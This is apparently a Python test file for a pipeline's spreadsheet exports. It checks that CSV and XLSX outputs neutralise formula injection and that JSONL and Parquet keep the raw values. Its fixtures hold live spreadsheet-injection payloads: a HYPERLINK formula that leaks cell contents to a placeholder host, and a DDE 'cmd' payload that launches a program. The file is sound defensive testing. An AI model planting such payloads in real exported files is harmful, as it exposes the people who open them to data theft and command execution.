"""Exports analysts can open and share: no live formulas, typed columns, one schema everywhere."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import openpyxl
import pandas as pd

from pipeline.export import documents_frame, tasks_frame, write_exports
from tests.test_store import make_result

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"bấm")', "=NOW()", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1"]


def hostile_export(tmp_path: Path) -> Path:
    result = make_result("a" * 64, n_tasks=len(HOSTILE))
    for task, text in zip(result.tasks, HOSTILE, strict=True):
        task.text = text
    task.lead_raw = "=cmd|' /C calc'!A0"
    task.lead = ["@evil", "Sở Tư pháp"]
    out = tmp_path / "out"
    write_exports(tasks_frame(result.tasks), documents_frame([result.record]), out)
    return out


def test_no_formula_in_xlsx(tmp_path: Path) -> None:
    out = hostile_export(tmp_path)
    ws = openpyxl.load_workbook(out / "tasks.xlsx")["tasks"]
    header = [c.value for c in ws[1]]
    texts = [row[header.index("text")] for row in ws.iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in texts)
    assert [c.value for c in texts] == ["'" + t for t in HOSTILE]
    last = list(ws.iter_rows(min_row=ws.max_row))[0]
    assert last[header.index("lead_raw")].value.startswith("'=")
    assert last[header.index("lead")].value == "'@evil | Sở Tư pháp"


def test_no_formula_in_csv(tmp_path: Path) -> None:
    out = hostile_export(tmp_path)
    with (out / "tasks.csv").open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["text"] for r in rows] == ["'" + t for t in HOSTILE]
    assert all(not r[col].startswith(("=", "+", "-", "@")) for r in rows for col in r)


def test_jsonl_and_parquet_keep_the_values_as_read(tmp_path: Path) -> None:
    out = hostile_export(tmp_path)
    rows = [json.loads(line) for line in (out / "tasks.jsonl").read_text(encoding="utf-8").splitlines()]
    assert [r["text"] for r in rows] == HOSTILE
    assert list(pd.read_parquet(out / "tasks.parquet")["text"]) == HOSTILE
